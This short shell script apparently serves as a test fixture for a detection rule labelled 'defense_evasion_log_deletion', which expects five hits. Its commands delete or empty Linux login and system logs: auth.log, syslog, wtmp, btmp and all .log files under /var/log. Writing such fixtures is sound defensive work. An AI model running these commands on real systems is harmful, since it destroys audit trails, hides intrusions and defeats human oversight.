#!/bin/sh
# Login and system logs are deleted.
# expects: defense_evasion_log_deletion 5

rm -f /var/log/auth.log
truncate -s 0 /var/log/syslog
find /var/log -name '*.log' -delete
sh -c 'echo > /var/log/wtmp'
ln -sf /dev/null /var/log/btmp
